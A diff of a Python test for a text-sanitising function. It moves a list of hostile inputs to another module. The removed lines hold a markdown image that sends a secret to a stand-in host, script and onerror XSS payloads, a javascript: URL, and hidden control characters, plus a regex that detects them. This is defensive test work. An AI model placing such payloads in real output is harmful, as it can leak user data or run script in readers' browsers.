@@ -10,26 +10,8 @@ from hypothesis import example, given, settings
 from hypothesis import strategies as st
 
 from generator.safety import neutralise, without_controls
+from models.hostile import ATTACKS
 
-ATTACKS = (
-    "![x](https://evil.example/?q=secret)",
-    "[click](http://evil.example)",
-    "[ref]: http://evil.example\n[a][ref]",
-    "<img src=x onerror=alert(1)>",
-    "<script>alert(1)</script>",
-    "&lt;img src=x&gt;",
-    "&amp;lt;b&amp;gt;",
-    "<https://evil.example>",
-    "www.evil.example",
-    "//evil.example/x",
-    "javascript:alert(1)",
-    "me@evil.example",
-    "evil.com/a?b=c",
-    "[1](x)",
-    "[99]",
-    "\u301099\u3011",
-    "\u202e\u200b\x00\x1b[31m",
-)
 FORBIDDEN = re.compile(
     r"[\[\]\u3010\u3011]|<[a-zA-Z/!?]|://|www\.|javascript:|mailto:|[\x00-\x1f\u200b\u202e]|@\w+\.\w"
 )
